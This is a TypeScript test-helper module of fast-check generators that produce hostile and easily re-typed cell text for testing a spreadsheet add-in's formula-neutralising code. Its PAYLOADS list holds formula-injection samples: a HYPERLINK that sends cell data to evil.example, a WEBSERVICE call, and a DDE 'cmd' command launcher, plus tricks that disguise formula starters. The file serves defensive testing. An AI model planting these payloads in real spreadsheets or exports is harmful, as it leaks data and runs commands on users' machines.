/**
 * fast-check generators for text that must stay text: shared by the neutralise
 * property tests and any suite that writes imported text into cells (sync, the
 * report's agency line, the frozen copy). Test-only; nothing in the add-in imports it.
 */
import fc from "fast-check";

/** Characters that print as nothing or as blank space. */
export const INVISIBLE_LEADS = [" ", "\u00A0", "\u3000", "\n", "\r\n", "\t", "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF", "\u3164", "\u180E"];

/** Formula starters as officers' keyboards and copy-paste deliver them. */
export const STARTERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u2212", "⁼", "⁺", "₌", "₊"];

const PAYLOADS = ['HYPERLINK("http://evil.example/?d="&ENCODEURL(약정!F2),"보기")', 'WEBSERVICE("http://x.example/"&A1)', "cmd|' /C calc'!A0", "SUM(1)", "2+3", "1", ""];

/** A hostile cell: invisible lead-in, a starter, a payload. */
export const formulaLikeText: fc.Arbitrary<string> = fc
  .tuple(fc.array(fc.constantFrom(...INVISIBLE_LEADS), { maxLength: 3 }), fc.constantFrom(...STARTERS), fc.oneof(fc.constantFrom(...PAYLOADS), fc.string({ maxLength: 12 })))
  .map(([lead, starter, payload]) => lead.join("") + starter + payload);

/** Text Excel would re-type: numbers, dates, times, booleans, error literals, full-width digits. */
export const coercibleText: fc.Arbitrary<string> = fc.oneof(
  fc.integer({ min: 0, max: 99999 }).map((n) => String(n).padStart(4, "0")),
  fc.double({ noNaN: true, noDefaultInfinity: true, min: -1e9, max: 1e9 }).map(String),
  fc.constantFrom("2019-11-18", "2019/11/18", "2019. 11. 18.", "2019년 11월 18일", "11월 18일", "1/2", "1 1/2", "18-Nov", "Nov-19", "12:30", "오후 3:15", "3:15 PM"),
  fc.constantFrom("TRUE", "false", "#N/A", "#VALUE!", "50%", "$1,000", "₩1,000", "(100)", "１２３", "０３０３", "1e5"),
);

/** Anything an import may carry, hostile or not. */
export const anyCellText: fc.Arbitrary<string> = fc.oneof(
  formulaLikeText,
  coercibleText,
  fc.string({ maxLength: 20 }),
  fc.string({ unit: "grapheme", maxLength: 20 }),
  fc.constantFrom("'", "''", "'=1", "창원시", "Samsung, Inc.", "a=b", "— 끝 —", ""),
);
